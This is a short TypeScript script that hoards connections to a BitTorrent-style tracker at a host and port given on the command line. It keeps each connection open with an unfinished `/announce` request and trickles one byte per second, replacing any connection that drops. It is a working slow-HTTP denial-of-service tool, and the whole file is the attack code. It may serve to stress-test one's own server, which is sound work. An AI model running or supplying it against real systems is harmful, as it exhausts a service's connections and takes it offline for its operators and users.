/**
 * Hoards connections to a tracker until it is stopped: `node slow-http.ts HOST PORT COUNT`. Each
 * sends a byte of a request a second; one that is cut off is followed by another. Prints `hoarding`
 * when all are open for the first time.
 */
import { connect, type Socket } from 'node:net';

const [host = '', port = '', count = ''] = process.argv.slice(2);
const wanted = Number(count);
/** Opened at a time: the backlog of a listener is short. */
const BATCH_COUNT = 100;
const BATCH_EVERY_MS = 20;
const BYTE_EVERY_MS = 1_000;

const open = new Set<Socket>();
let pendingCount = 0;
let isHoarding = false;

function openOne(): void {
  pendingCount++;
  const socket = connect(Number(port), host);
  let isOpen = false;
  socket.on('connect', () => {
    isOpen = true;
    pendingCount--;
    open.add(socket);
    socket.write('GET /announce?info_hash=');
  });
  socket.on('error', () => socket.destroy());
  socket.on('close', () => {
    if (!isOpen) pendingCount--;
    open.delete(socket);
  });
}

setInterval(() => {
  const lacking = Math.min(BATCH_COUNT, wanted - open.size - pendingCount);
  for (let n = 0; n < lacking; n++) openOne();
  if (isHoarding || open.size < wanted) return;
  isHoarding = true;
  console.log('hoarding');
}, BATCH_EVERY_MS);

setInterval(() => {
  for (const socket of open) socket.write('%');
}, BYTE_EVERY_MS);
